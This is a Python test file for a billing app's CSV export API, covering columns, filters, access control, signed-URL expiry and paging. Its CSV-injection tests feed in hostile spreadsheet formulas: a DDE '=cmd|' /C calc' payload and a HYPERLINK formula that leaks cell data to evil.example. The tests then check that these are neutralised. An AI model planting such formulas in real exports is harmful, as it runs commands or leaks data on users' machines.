"""CSV exports through the API: createExport, the worker's file, its signed URL.

Every export here is asked for with the real mutation, written by the real
in-process worker (``drain``) and downloaded through its signed URL, then parsed
back as a spreadsheet would read it.
"""

from __future__ import annotations

import csv
import io
import uuid
from collections.abc import Callable, Iterator
from datetime import UTC, date, datetime, timedelta
from typing import Any

import httpx
import pytest

from settle.core import clock
from settle.core.settings import configure_settings
from settle.core.signing import UrlSigner
from settle.models.agency import Role
from settle.models.client import Client
from settle.models.export import Export
from settle.models.invoice import Invoice
from settle.models.payment import Payment, PaymentProvider, PaymentStatus
from settle.models.project import TimeEntry
from settle.services import export as export_service
from tests.conftest import Backend
from tests.fixtures.db import row_counts
from tests.fixtures.factories import (
    Account,
    create_client,
    create_contact,
    create_invoice,
    create_project,
    create_user,
    issue_invoice,
)
from tests.fixtures.graphql import GraphQLClient

CREATE_EXPORT = """
mutation CreateExport($input: CreateExportInput!) {
  createExport(input: $input) {
    __typename
    ... on Export { id entity status fields totalRows }
    ... on Error { code message }
    ... on ValidationError { field }
  }
}
"""

EXPORT = """
query Export($id: ID!) {
  export(id: $id) {
    id entity status rows totalRows sizeBytes url expiresAt errorCode error fields
    filter { from to clientId projectId status }
    requestedBy { id }
  }
}
"""

EXPORTS = """
query Exports($first: Int, $after: String) {
  exports(first: $first, after: $after) {
    totalCount
    edges { node { id entity status } }
    pageInfo { hasNextPage endCursor }
  }
}
"""

CLIENT_HEADER = [
    "id",
    "name",
    "email",
    "phone",
    "address",
    "tax_id",
    "currency",
    "is_active",
    "external_id",
    "contact_name",
    "contact_email",
    "contact_phone",
    "contact_title",
    "created_at",
]

BOM = b"\xef\xbb\xbf"


@pytest.fixture
def tune(db: Backend) -> Iterator[Callable[..., None]]:
    """Change settings for this test (the worker reads them too); restored afterwards."""

    def apply(**changes: Any) -> None:
        configure_settings(db.settings.model_copy(update=changes))

    yield apply
    configure_settings(db.settings)


def path_of(url: str) -> str:
    return url.removeprefix("http://settle.test")


async def ask(gql: GraphQLClient, token: str, **input: Any) -> dict[str, Any]:
    data = await gql.execute(CREATE_EXPORT, {"input": input}, token=token)
    result: dict[str, Any] = data["createExport"]
    return result


async def fetch(gql: GraphQLClient, token: str, export_id: str) -> dict[str, Any] | None:
    data = await gql.execute(EXPORT, {"id": export_id}, token=token)
    result: dict[str, Any] | None = data["export"]
    return result


def parse(body: bytes) -> list[list[str]]:
    """The CSV as a spreadsheet reads it: UTF-8 after the BOM."""
    assert body.startswith(BOM), body[:10]
    return list(csv.reader(io.StringIO(body[len(BOM) :].decode("utf-8"), newline="")))


async def export_rows(
    db: Backend, gql: GraphQLClient, http: httpx.AsyncClient, token: str, **input: Any
) -> tuple[dict[str, Any], list[list[str]]]:
    """Ask for an export, let the worker write it, download it: (the export, its rows)."""
    created = await ask(gql, token, **input)
    assert created["__typename"] == "Export", created
    await db.drain()
    export = await fetch(gql, token, created["id"])
    assert export is not None
    assert export["status"] == "COMPLETED", export
    response = await http.get(path_of(export["url"]))
    assert response.status_code == 200, response.text
    assert response.headers["content-type"] == "text/csv; charset=utf-8"
    assert response.headers["cache-control"] == "private, no-store"
    assert int(response.headers["content-length"]) == export["sizeBytes"] == len(response.content)
    return export, parse(response.content)


# --- each entity ---------------------------------------------------------------------------


async def test_clients_export_every_column_with_the_primary_contact(
    db: Backend, gql: GraphQLClient, http: httpx.AsyncClient, owner: Account
) -> None:
    # given a client with a primary and a second contact, and one without contacts
    acme = await create_client(
        owner,
        name="Acme Ltd",
        email="billing@acme.example",
        phone="+44 20 7946 0000",
        address="1 High St\nLondon",
        tax_id="GB123",
        currency="GBP",
    )
    await create_contact(
        owner, acme, primary=True, name="Ann Lead", email="ann@acme.example", title="CFO"
    )
    await create_contact(owner, acme, name="Bob Second")
    bolt = await create_client(owner, name="Bolt", currency="USD", is_active=False)
    await Client.filter(id=acme.id).update(external_id="CRM-7")

    # when the owner exports clients
    export, rows = await export_rows(db, gql, http, owner.token, entity="CLIENTS")

    # then the header is the documented one, and each client is one row, oldest first
    assert export["fields"] == CLIENT_HEADER
    assert export["rows"] == export["totalRows"] == 2
    assert rows[0] == CLIENT_HEADER
    assert rows[1:] == [
        [
            str(acme.id),
            "Acme Ltd",
            "billing@acme.example",
            # a phone number typed with its "+" is text a spreadsheet must not evaluate
            "'+44 20 7946 0000",
            "1 High St\nLondon",
            "GB123",
            "GBP",
            "true",
            "CRM-7",
            "Ann Lead",
            "ann@acme.example",
            "",
            "CFO",
            acme.created_at.isoformat(),
        ],
        [
            str(bolt.id),
            "Bolt",
            "",
            "",
            "",
            "",
            "USD",
            "false",
            "",
            "",
            "",
            "",
            "",
            bolt.created_at.isoformat(),
        ],
    ]


async def test_contacts_export(
    db: Backend, gql: GraphQLClient, http: httpx.AsyncClient, owner: Account
) -> None:
    # given a client with two contacts, and a deleted client's contact
    acme = await create_client(owner, name="Acme")
    ann = await create_contact(owner, acme, primary=True, name="Ann", phone="020 7946 0000")
    bob = await create_contact(owner, acme, name="Bob", title="Designer")
    gone = await create_client(owner, name="Gone")
    await create_contact(owner, gone, name="Ghost")
    await Client.filter(id=gone.id).update(deleted_at=clock.now())

    # when the owner exports contacts
    _, rows = await export_rows(db, gql, http, owner.token, entity="CONTACTS")

    # then the live client's contacts are there, with their client's name
    assert rows == [
        [
            "id",
            "client_id",
            "client_external_id",
            "client_name",
            "name",
            "email",
            "phone",
            "title",
            "is_primary",
            "created_at",
        ],
        [
            str(ann.id),
            str(acme.id),
            "",
            "Acme",
            "Ann",
            "",
            "020 7946 0000",
            "",
            "true",
            ann.created_at.isoformat(),
        ],
        [
            str(bob.id),
            str(acme.id),
            "",
            "Acme",
            "Bob",
            "",
            "",
            "Designer",
            "false",
            bob.created_at.isoformat(),
        ],
    ]


async def test_invoices_export_money_as_decimal_strings_with_currency(
    db: Backend, gql: GraphQLClient, http: httpx.AsyncClient, owner: Account
) -> None:
    # given an issued USD invoice of 2 x 12.50 with 10% tax, and a JPY draft
    acme = await create_client(owner, name="Acme", currency="USD")
    project = await create_project(owner, acme, name="Website")
    issued = await issue_invoice(
        owner,
        await create_invoice(
            owner,
            acme,
            project,
            lines=[{"description": "Design", "quantity": "2", "unit_price": "12.50"}],
            tax_rate="10",
        ),
    )
    yen = await create_client(owner, name="Kaisha", currency="JPY")
    draft = await create_invoice(
        owner, yen, lines=[{"description": "Audit", "quantity": "1", "unit_price": "1250"}]
    )
    await db.drain()
    issued = await Invoice.get(id=issued.id)
    draft = await Invoice.get(id=draft.id)

    # when the owner exports invoices
    _, rows = await export_rows(db, gql, http, owner.token, entity="INVOICES")

    # then amounts are decimal strings in major units, as Money formats them, with dates ISO
    header = rows[0]
    by_id = {row[0]: dict(zip(header, row, strict=True)) for row in rows[1:]}
    assert header[:4] == ["id", "number", "status", "client_id"]
    assert by_id[str(issued.id)] == {
        "id": str(issued.id),
        "number": issued.number,
        "status": "sent",
        "client_id": str(acme.id),
        "client_name": "Acme",
        "project_id": str(project.id),
        "project_name": "Website",
        "issue_date": issued.issue_date.isoformat() if issued.issue_date else "",
        "due_date": issued.due_date.isoformat() if issued.due_date else "",
        "currency": "USD",
        "subtotal": "25.00",
        "discount": "0.00",
        "tax": "2.50",
        "total": "27.50",
        "amount_paid": "0.00",
        "amount_refunded": "0.00",
        "amount_credited": "0.00",
        "amount_due": "27.50",
        "issued_at": issued.issued_at.isoformat() if issued.issued_at else "",
        "paid_at": "",
        "voided_at": "",
        "created_at": issued.created_at.isoformat(),
    }
    yen_row = by_id[str(draft.id)]
    assert (yen_row["status"], yen_row["number"], yen_row["issue_date"]) == ("draft", "", "")
    assert (yen_row["currency"], yen_row["total"], yen_row["amount_due"]) == ("JPY", "1250", "1250")
    assert date.fromisoformat(by_id[str(issued.id)]["issue_date"]) == issued.issue_date


async def test_payments_export(
    db: Backend, gql: GraphQLClient, http: httpx.AsyncClient, owner: Account
) -> None:
    # given an issued invoice with a succeeded, partly refunded payment
    acme = await create_client(owner, name="Acme")
    project = await create_project(owner, acme, name="Website")
    invoice = await issue_invoice(owner, await create_invoice(owner, acme, project))
    paid_at = datetime(2026, 3, 4, 10, 30, tzinfo=UTC)
    payment = await Payment.create(
        agency_id=owner.agency_id,
        client_id=acme.id,
        project_id=project.id,
        invoice_id=invoice.id,
        provider=PaymentProvider.OFFLINE,
        status=PaymentStatus.PARTIALLY_REFUNDED,
        amount_minor=10_000,
        amount_refunded_minor=2_550,
        currency="USD",
        reference="=cmd|' /C calc'!A0",
        succeeded_at=paid_at,
    )

    # when the owner exports payments
    _, rows = await export_rows(db, gql, http, owner.token, entity="PAYMENTS")

    # then the payment is one row, its reference neutralised, its amounts decimal strings
    assert len(rows) == 2
    row = dict(zip(rows[0], rows[1], strict=True))
    assert row == {
        "id": str(payment.id),
        "status": "partially_refunded",
        "provider": "offline",
        "method": "",
        "reference": "'=cmd|' /C calc'!A0",
        "client_id": str(acme.id),
        "client_name": "Acme",
        "project_id": str(project.id),
        "project_name": "Website",
        "invoice_id": str(invoice.id),
        "invoice_number": invoice.number,
        "currency": "USD",
        "amount": "100.00",
        "amount_refunded": "25.50",
        "provider_payment_id": "",
        "succeeded_at": "2026-03-04T10:30:00+00:00",
        "failed_at": "",
        "created_at": payment.created_at.isoformat(),
    }


async def test_time_entries_export(
    db: Backend, gql: GraphQLClient, http: httpx.AsyncClient, owner: Account
) -> None:
    # given 90 billable minutes at 100.00 an hour, and a running timer
    acme = await create_client(owner, name="Acme")
    project = await create_project(owner, acme, name="Website")
    logged = await TimeEntry.create(
        agency_id=owner.agency_id,
        project_id=project.id,
        client_id=acme.id,
        user_id=owner.user.id,
        work_date=date(2026, 3, 2),
        minutes=90,
        hourly_rate_minor=10_000,
        currency="USD",
        description="-Homepage",
    )
    running = await TimeEntry.create(
        agency_id=owner.agency_id,
        project_id=project.id,
        client_id=acme.id,
        user_id=owner.user.id,
        work_date=date(2026, 3, 3),
        is_running=True,
        currency="USD",
    )

    # when the owner exports time entries
    _, rows = await export_rows(db, gql, http, owner.token, entity="TIME_ENTRIES")

    # then hours and amount are exact decimals; a running timer has neither yet
    by_id = {row[0]: dict(zip(rows[0], row, strict=True)) for row in rows[1:]}
    assert by_id[str(logged.id)] == {
        "id": str(logged.id),
        "work_date": "2026-03-02",
        "client_id": str(acme.id),
        "client_name": "Acme",
        "project_id": str(project.id),
        "project_name": "Website",
        "task_id": "",
        "task_title": "",
        "user_id": str(owner.user.id),
        "user_name": "Olive Owner",
        "description": "'-Homepage",
        "minutes": "90",
        "hours": "1.50",
        "billable": "true",
        "hourly_rate": "100.00",
        "amount": "150.00",
        "currency": "USD",
        "invoiced": "false",
        "created_at": logged.created_at.isoformat(),
    }
    assert (by_id[str(running.id)]["minutes"], by_id[str(running.id)]["amount"]) == ("", "")


# --- columns and filters ---------------------------------------------------------------------


async def test_fields_choose_and_order_the_columns(
    db: Backend, gql: GraphQLClient, http: httpx.AsyncClient, owner: Account
) -> None:
    # given a client
    acme = await create_client(owner, name="Acme", currency="EUR")

    # when the owner asks for three columns in an order of its own
    export, rows = await export_rows(
        db, gql, http, owner.token, entity="CLIENTS", fields=["currency", "name", "id"]
    )

    # then exactly those columns come, in that order
    assert export["fields"] == ["currency", "name", "id"]
    assert rows == [["currency", "name", "id"], ["EUR", "Acme", str(acme.id)]]


async def test_bad_requests_are_typed_errors_that_write_nothing(
    db: Backend, gql: GraphQLClient, owner: Account
) -> None:
    # given a client with a project, and another client
    acme = await create_client(owner, name="Acme")
    project = await create_project(owner, acme)
    bolt = await create_client(owner, name="Bolt")
    before = await row_counts(Export)

    # when the owner asks for what cannot be exported
    cases = [
        {"entity": "CLIENTS", "fields": ["name", "nickname"]},
        {"entity": "CLIENTS", "fields": ["name", "name"]},
        {"entity": "CLIENTS", "fields": []},
        {"entity": "CLIENTS", "filter": {"projectId": str(project.id)}},
        {"entity": "TIME_ENTRIES", "filter": {"status": "SENT"}},
        {"entity": "INVOICES", "filter": {"status": "LOST"}},
        {"entity": "INVOICES", "filter": {"from": "2026-03-02", "to": "2026-03-01"}},
        {"entity": "INVOICES", "filter": {"clientId": str(bolt.id), "projectId": str(project.id)}},
        {"entity": "INVOICES", "filter": {"clientId": str(uuid.uuid4())}},
        {"entity": "PAYMENTS", "filter": {"projectId": str(uuid.uuid4())}},
    ]
    answers = [await ask(gql, owner.token, **case) for case in cases]

    # then each is refused with its own code, naming the field, and nothing is written
    assert [(a["__typename"], a["code"], a.get("field")) for a in answers] == [
        ("ValidationError", "UNKNOWN_FIELD", "fields"),
        ("ValidationError", "DUPLICATE_FIELD", "fields"),
        ("ValidationError", "NO_FIELDS", "fields"),
        ("ValidationError", "INVALID_FILTER", "filter.projectId"),
        ("ValidationError", "INVALID_FILTER", "filter.status"),
        ("ValidationError", "INVALID_FILTER", "filter.status"),
        ("ValidationError", "INVALID_RANGE", "filter.from"),
        ("ValidationError", "INVALID_FILTER", "filter.projectId"),
        ("NotFoundError", "NOT_FOUND", None),
        ("NotFoundError", "NOT_FOUND", None),
    ]
    # and the unknown field is named, with every allowed one listed
    assert answers[0]["message"] == (
        "Unknown field(s) for clients: nickname. Allowed: " + ", ".join(CLIENT_HEADER)
    )
    assert "DRAFT, SENT, VIEWED" in answers[5]["message"]
    assert await row_counts(Export) == before


async def test_filters_narrow_each_entity_by_its_natural_date(
    db: Backend, gql: GraphQLClient, http: httpx.AsyncClient, owner: Account
) -> None:
    # given invoices issued on three days (and a draft), time on two projects
    acme = await create_client(owner, name="Acme")
    site = await create_project(owner, acme, name="Site")
    app = await create_project(owner, acme, name="App")
    bolt = await create_client(owner, name="Bolt")
    invoices = {}
    for day in (1, 2, 3):
        invoice = await issue_invoice(owner, await create_invoice(owner, acme, site))
        await Invoice.filter(id=invoice.id).update(issue_date=date(2026, 3, day))
        invoices[day] = invoice
    await create_invoice(owner, acme, site)
    await Invoice.filter(id=invoices[3].id).update(status="paid")
    entries = {}
    for project in (site, app):
        entries[project.name] = await TimeEntry.create(
            agency_id=owner.agency_id,
            project_id=project.id,
            client_id=acme.id,
            user_id=owner.user.id,
            work_date=date(2026, 3, 5),
            minutes=60,
            currency="USD",
        )

    async def ids(**input: Any) -> list[str]:
        _, rows = await export_rows(db, gql, http, owner.token, fields=["id"], **input)
        return [row[0] for row in rows[1:]]

    # when the owner exports with filters, then each holds exactly the rows meant
    assert await ids(entity="INVOICES", filter={"from": "2026-03-02", "to": "2026-03-03"}) == [
        str(invoices[2].id),
        str(invoices[3].id),
    ]
    assert await ids(entity="INVOICES", filter={"status": "PAID"}) == [str(invoices[3].id)]
    assert await ids(entity="INVOICES", filter={"clientId": str(bolt.id)}) == []
    assert await ids(entity="TIME_ENTRIES", filter={"projectId": str(app.id)}) == [
        str(entries["App"].id)
    ]
    assert await ids(entity="TIME_ENTRIES", filter={"to": "2026-03-04"}) == []
    assert await ids(entity="CLIENTS", filter={"clientId": str(bolt.id)}) == [str(bolt.id)]
    today = clock.now().date().isoformat()
    assert len(await ids(entity="CLIENTS", filter={"from": today, "to": today})) == 2
    yesterday = (clock.now().date() - timedelta(days=1)).isoformat()
    assert await ids(entity="CLIENTS", filter={"to": yesterday}) == []
    # and the export says what it was asked with
    created = await ask(
        gql, owner.token, entity="INVOICES", filter={"status": "paid", "projectId": str(site.id)}
    )
    await db.drain()
    shown = await fetch(gql, owner.token, created["id"])
    assert shown is not None
    assert shown["filter"] == {
        "from": None,
        "to": None,
        "clientId": None,
        "projectId": str(site.id),
        "status": "PAID",
    }


# --- CSV injection ---------------------------------------------------------------------------


async def test_cells_a_spreadsheet_would_evaluate_are_neutralised(
    db: Backend, gql: GraphQLClient, http: httpx.AsyncClient, owner: Account
) -> None:
    # given clients whose names a spreadsheet would run as formulas (tab and CR ones as an
    # import could store them, which the API's trimming never would)
    names = [
        '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
        "+1",
        "-2+3",
        "@SUM(A1:A9)",
        "\tTabbed",
        "\rReturned",
        "Plain = fine",
    ]
    for name in names:
        await Client.create(agency_id=owner.agency_id, name=name, currency="USD", email=name[:3])

    # when the owner exports them
    _, rows = await export_rows(
        db, gql, http, owner.token, entity="CLIENTS", fields=["name", "email"]
    )

    # then every such cell starts with a quote, so it shows as typed and never runs
    assert rows[1:] == [
        ['\'=HYPERLINK("http://evil.example/?leak="&A1,"Click")', "'=HY"],
        ["'+1", "'+1"],
        ["'-2+3", "'-2+"],
        ["'@SUM(A1:A9)", "'@SU"],
        ["'\tTabbed", "'\tTa"],
        ["'\rReturned", "'\rRe"],
        ["Plain = fine", "Pla"],
    ]


# --- who may export what ---------------------------------------------------------------------


async def test_a_client_user_exports_only_their_clients_issued_invoices_and_payments(
    db: Backend, gql: GraphQLClient, http: httpx.AsyncClient, owner: Account
) -> None:
    # given clients A and B, each with an issued invoice, a draft and a payment; a lead of A
    rows = {}
    for name in ("Acme", "Bolt"):
        client = await create_client(owner, name=name)
        issued = await issue_invoice(owner, await create_invoice(owner, client))
        draft = await create_invoice(owner, client)
        payment = await Payment.create(
            agency_id=owner.agency_id,
            client_id=client.id,
            invoice_id=issued.id,
            provider=PaymentProvider.SANDBOX,
            amount_minor=1_000,
            currency="USD",
        )
        rows[name] = (client, issued, draft, payment)
    acme, acme_issued, _, acme_payment = rows["Acme"]
    bolt = rows["Bolt"][0]
    lead = await create_user(owner, role=Role.CLIENT_LEAD, client=acme)
    await db.drain()

    # when the lead exports invoices and payments
    _, invoices = await export_rows(db, gql, http, lead.token, entity="INVOICES", fields=["id"])
    _, payments = await export_rows(db, gql, http, lead.token, entity="PAYMENTS", fields=["id"])

    # then only A's issued invoice and A's payment are there
    assert invoices == [["id"], [str(acme_issued.id)]]
    assert payments == [["id"], [str(acme_payment.id)]]

    # and other entities, and B's rows, are refused before anything is written
    before = await row_counts(Export)
    refused = [
        await ask(gql, lead.token, entity=entity)
        for entity in ("CLIENTS", "CONTACTS", "TIME_ENTRIES")
    ]
    other = await ask(gql, lead.token, entity="INVOICES", filter={"clientId": str(bolt.id)})
    assert [answer["code"] for answer in refused] == ["PERMISSION_DENIED"] * 3
    assert refused[0]["message"] == "Client users export only invoices and payments"
    assert (other["code"], other["message"]) == ("NOT_FOUND", "Client not found")
    assert await row_counts(Export) == before

    # and the lead lists only A's exports, while the owner sees every export of the agency
    await export_rows(db, gql, http, owner.token, entity="CLIENTS")
    lead_list = (await gql.execute(EXPORTS, token=lead.token))["exports"]
    owner_list = (await gql.execute(EXPORTS, token=owner.token))["exports"]
    assert [edge["node"]["entity"] for edge in lead_list["edges"]] == ["PAYMENTS", "INVOICES"]
    assert [edge["node"]["entity"] for edge in owner_list["edges"]] == [
        "CLIENTS",
        "PAYMENTS",
        "INVOICES",
    ]


async def test_another_agency_can_neither_see_nor_download_an_export(
    db: Backend, gql: GraphQLClient, http: httpx.AsyncClient, owner: Account, rival: Account
) -> None:
    # given the owner's completed export
    await create_client(owner, name="Acme")
    export, _ = await export_rows(db, gql, http, owner.token, entity="CLIENTS")

    # when the rival looks it up and lists its exports
    seen = await fetch(gql, rival.token, export["id"])
    listed = (await gql.execute(EXPORTS, token=rival.token))["exports"]

    # then it is not there
    assert seen is None
    assert listed["totalCount"] == 0

    # and a link signed for the rival's own user, naming the owner's export, finds nothing
    signer = UrlSigner(db.settings.signing_key(), export_service.DOWNLOAD_PURPOSE)
    token, _ = signer.sign({"i": export["id"], "u": str(rival.user.id)}, ttl_seconds=60)
    response = await http.get(f"/files/exports/{token}")
    assert (response.status_code, response.json()["code"]) == (404, "NOT_FOUND")
    # and an altered link is refused
    forged = await http.get(path_of(export["url"]) + "x")
    assert (forged.status_code, forged.json()["code"]) == (403, "INVALID_SIGNATURE")
    # and the audit timeline names who exported what
    events = (
        await gql.execute(
            "{ timeline(first: 5) { edges { node { entityType verb summary actor { id } } } } }",
            token=owner.token,
        )
    )["timeline"]["edges"]
    assert {
        "entityType": "export",
        "verb": "requested",
        "summary": "Olive Owner exported clients (1 row)",
        "actor": {"id": str(owner.user.id)},
    } in [edge["node"] for edge in events]


async def test_the_download_url_expires(
    db: Backend,
    gql: GraphQLClient,
    http: httpx.AsyncClient,
    owner: Account,
    tune: Callable[..., None],
) -> None:
    # given a completed export whose links last a minute
    tune(export_url_ttl_seconds=60)
    await create_client(owner, name="Acme")
    export, _ = await export_rows(db, gql, http, owner.token, entity="CLIENTS")
    expires_at = datetime.fromisoformat(export["expiresAt"])
    assert timedelta(seconds=58) <= expires_at - clock.now() <= timedelta(seconds=60)

    # when the link is used once it has expired
    try:
        clock.set_clock(lambda: expires_at)
        late = await http.get(path_of(export["url"]))
        # then it is refused; asking for the export again gives a fresh link that works
        fresh = await fetch(gql, owner.token, export["id"])
        assert fresh is not None
        again = await http.get(path_of(fresh["url"]))
    finally:
        clock.set_clock(None)
    assert (late.status_code, late.json()["code"]) == (403, "URL_EXPIRED")
    assert again.status_code == 200
    assert again.content.startswith(BOM)


async def test_exports_are_listed_newest_first_a_page_at_a_time(
    db: Backend, gql: GraphQLClient, http: httpx.AsyncClient, owner: Account
) -> None:
    # given three exports
    await create_client(owner, name="Acme")
    made = [
        (await ask(gql, owner.token, entity=entity))["id"]
        for entity in ("CLIENTS", "CONTACTS", "INVOICES")
    ]
    await db.drain()

    # when the owner lists them two at a time
    first = (await gql.execute(EXPORTS, {"first": 2}, token=owner.token))["exports"]
    after = first["pageInfo"]["endCursor"]
    second = (await gql.execute(EXPORTS, {"first": 2, "after": after}, token=owner.token))[
        "exports"
    ]

    # then they come newest first, across pages, each completed
    nodes = [edge["node"] for edge in first["edges"] + second["edges"]]
    assert [node["id"] for node in nodes] == made[::-1]
    assert {node["status"] for node in nodes} == {"COMPLETED"}
    assert (first["totalCount"], first["pageInfo"]["hasNextPage"]) == (3, True)
    assert second["pageInfo"]["hasNextPage"] is False
    # and a page size out of range is a typed error
    body = await gql.execute(EXPORTS, {"first": 101}, token=owner.token, expect_errors=True)
    assert [error["extensions"]["code"] for error in body["errors"]] == ["OUT_OF_RANGE"]

    # and HEAD on a download link tells the file's type, name and size without a body
    export = await fetch(gql, owner.token, made[0])
    assert export is not None
    head = await http.head(path_of(export["url"]))
    assert head.status_code == 200
    assert head.content == b""
    assert head.headers["content-length"] == str(export["sizeBytes"])
    assert head.headers["content-disposition"].startswith('attachment; filename="clients-')
